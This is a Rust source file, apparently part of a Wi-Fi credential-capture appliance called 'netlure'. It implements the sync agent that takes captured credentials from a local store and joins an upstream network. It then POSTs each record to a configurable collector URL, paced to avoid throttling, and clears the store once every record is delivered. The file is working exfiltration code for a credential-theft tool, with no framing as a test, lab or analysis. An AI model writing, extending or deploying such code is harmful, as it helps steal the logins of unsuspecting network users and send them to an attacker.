use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};

use netlure_capture::CredentialStore;

use crate::config::Config;
use crate::radio::RadioControl;

/// Delivery-pass settings, split from [`Config`] so tests can shrink
/// the pacing and poll windows.
#[derive(Debug, Clone)]
pub struct SyncConfig {
    pub collector_url: String,
    pub upstream_ssid: String,
    pub upstream_psk: Option<String>,
    pub join_attempts: u32,
    pub join_poll_interval: Duration,
    pub record_pacing: Duration,
    pub request_timeout: Duration,
}

impl From<&Config> for SyncConfig {
    fn from(cfg: &Config) -> Self {
        Self {
            collector_url: cfg.collector_url.clone(),
            upstream_ssid: cfg.upstream_ssid.clone(),
            upstream_psk: cfg.upstream_psk.clone(),
            join_attempts: cfg.join_attempts,
            join_poll_interval: cfg.join_poll_interval,
            record_pacing: cfg.record_pacing,
            request_timeout: cfg.request_timeout,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JoinOutcome {
    Connected,
    Failed,
    NotAttempted,
}

/// What one delivery pass did. Failure is data here, not an error:
/// every outcome leaves the appliance able to continue capturing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SyncReport {
    pub join: JoinOutcome,
    pub attempted: usize,
    pub delivered: usize,
}

impl SyncReport {
    pub fn noop() -> Self {
        Self {
            join: JoinOutcome::NotAttempted,
            attempted: 0,
            delivered: 0,
        }
    }

    pub fn fully_delivered(&self) -> bool {
        self.attempted > 0 && self.delivered == self.attempted
    }
}

/// Drains the credential store to the collector over the upstream
/// network. The agent only talks to the radio and the collector; mode
/// flips around a pass belong to the controller.
pub struct SyncAgent {
    cfg: SyncConfig,
    store: Arc<CredentialStore>,
    radio: Arc<dyn RadioControl>,
    client: reqwest::blocking::Client,
}

impl SyncAgent {
    pub fn new(
        cfg: SyncConfig,
        store: Arc<CredentialStore>,
        radio: Arc<dyn RadioControl>,
    ) -> Result<Self> {
        let client = reqwest::blocking::Client::builder()
            .timeout(cfg.request_timeout)
            .build()
            .context("building collector HTTP client")?;

        Ok(Self {
            cfg,
            store,
            radio,
            client,
        })
    }

    /// One delivery pass: join upstream, POST the snapshot record by
    /// record, clear the store only when every record got through. A
    /// response of any status counts as a hand-off; only transport
    /// failures keep the batch. Records inserted while the pass runs
    /// are untouched either way.
    pub fn sync_all(&self) -> SyncReport {
        if self.store.is_empty() {
            tracing::info!("Nothing to deliver");
            return SyncReport::noop();
        }
        if self.cfg.collector_url.is_empty() {
            tracing::warn!(
                "Collector URL not configured; keeping {} records local",
                self.store.len()
            );
            return SyncReport::noop();
        }

        if !self.join_upstream() {
            return SyncReport {
                join: JoinOutcome::Failed,
                attempted: 0,
                delivered: 0,
            };
        }

        let records = self.store.snapshot();
        let attempted = records.len();
        let mut delivered = 0;
        tracing::info!("Delivering {} records to the collector", attempted);

        for (index, record) in records.iter().enumerate() {
            let result = self
                .client
                .post(&self.cfg.collector_url)
                .json(&record.collector_payload())
                .send();

            match result {
                Ok(response) => {
                    // The collector is a fire-and-forget sink: reaching
                    // it is the acknowledgment, whatever the status.
                    delivered += 1;
                    if !response.status().is_success() {
                        tracing::warn!(
                            "Collector answered record {}/{} with {}",
                            index + 1,
                            attempted,
                            response.status()
                        );
                    }
                }
                Err(err) => tracing::warn!(
                    "Collector request {}/{} failed: {}",
                    index + 1,
                    attempted,
                    err
                ),
            }

            // Paced uploads; the collector endpoint throttles bursts.
            std::thread::sleep(self.cfg.record_pacing);
        }

        if delivered == attempted {
            self.store.clear_delivered(attempted);
            tracing::info!("Delivered {}/{} records; local store cleared", delivered, attempted);
        } else {
            tracing::warn!(
                "Delivered {}/{} records; keeping everything for the next pass",
                delivered,
                attempted
            );
        }

        SyncReport {
            join: JoinOutcome::Connected,
            attempted,
            delivered,
        }
    }

    /// Joins the configured upstream network, polling for the join to
    /// land inside a hard window. Every failure path is a warn and
    /// `false`; the records stay put.
    fn join_upstream(&self) -> bool {
        if self.cfg.upstream_ssid.is_empty() {
            tracing::warn!(
                "Upstream network not configured; keeping {} records local",
                self.store.len()
            );
            return false;
        }

        if let Err(err) = self.radio.ensure_station_mode() {
            tracing::warn!("Could not return radio to station mode: {err:#}");
            return false;
        }
        if let Err(err) = self
            .radio
            .request_join(&self.cfg.upstream_ssid, self.cfg.upstream_psk.as_deref())
        {
            tracing::warn!(
                "Join request for '{}' failed: {err:#}",
                self.cfg.upstream_ssid
            );
            return false;
        }

        for attempt in 1..=self.cfg.join_attempts {
            match self.radio.is_connected() {
                Ok(true) => {
                    tracing::info!(
                        "Joined upstream '{}' after {} polls",
                        self.cfg.upstream_ssid,
                        attempt
                    );
                    return true;
                }
                Ok(false) => {}
                Err(err) => tracing::debug!("Connectivity poll failed: {err:#}"),
            }
            std::thread::sleep(self.cfg.join_poll_interval);
        }

        tracing::warn!(
            "Upstream '{}' not joined within {} polls; keeping records local",
            self.cfg.upstream_ssid,
            self.cfg.join_attempts
        );
        false
    }
}
